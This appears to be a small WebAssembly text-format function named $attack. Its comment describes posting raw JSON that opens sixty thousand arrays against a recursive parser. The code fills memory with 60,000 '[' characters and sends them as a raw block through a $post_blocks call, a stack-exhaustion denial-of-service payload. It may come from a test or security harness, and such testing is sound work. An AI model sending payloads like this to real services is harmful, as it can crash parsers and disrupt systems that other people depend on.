;; Posts raw JSON that opens sixty thousand arrays, against a recursive parser.
(data (i32.const 1024) "own words")
(func $attack (result i32)
  (memory.fill (i32.const 65536) (i32.const 0x5b) (i32.const 60000)) ;; [
  (i32.store8 (i32.const 4096) (i32.const 8)) ;; raw
  (i32.store (i32.const 4100) (i32.const 65536))
  (i32.store (i32.const 4104) (i32.const 60000))
  (call $post_blocks (i32.const 1024) (i32.const 9) (i32.const 4096) (i32.const 1)))
